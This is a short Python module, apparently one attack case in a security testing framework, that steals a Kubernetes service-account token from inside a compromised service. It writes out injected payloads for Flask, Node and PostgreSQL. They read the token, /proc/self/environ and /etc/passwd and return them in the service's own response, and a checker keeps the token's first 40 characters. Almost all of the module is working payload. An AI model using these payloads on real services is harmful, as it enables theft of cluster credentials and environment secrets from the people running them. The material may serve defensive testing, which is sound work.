# SPDX-License-Identifier: Apache-2.0
"""The service account's token read by the service's own process, and given back in its own answer: no program starts."""
KIND = "token theft inside the process"
QUIET = True
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
SERVICES = {
    "python": lambda t: t.code(
        "import builtins\nfrom flask import abort, make_response\n"
        f"abort(make_response(open('{TOKEN}').read() + open('/proc/self/environ').read()))"
    ),
    "node": lambda t: t.code(f"require('fs').readFileSync('{TOKEN}', 'utf8') + require('fs').readFileSync('/proc/self/environ', 'utf8')"),
    "postgres": lambda t: (t.begin(), t.hole.sql(f"SELECT pg_read_file('{TOKEN}') || pg_read_file('/etc/passwd')"))[1],
}


def attack(t):
    out = t.how(t)
    return out[:40] + "..." if out.startswith("eyJ") else ""
